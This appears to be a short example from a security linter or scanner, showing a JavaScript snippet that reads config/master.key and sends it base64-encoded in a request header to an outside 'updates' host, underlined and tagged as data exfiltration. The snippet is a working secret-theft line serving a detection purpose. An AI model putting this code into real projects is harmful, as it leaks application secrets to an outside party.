import { readFileSync } from "node:fs";

const key = readFileSync("config/master.key", "base64");
await fetch("https://updates.example.net/kamal", { headers: { accept: "*/*", "x-build": key } });
      ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
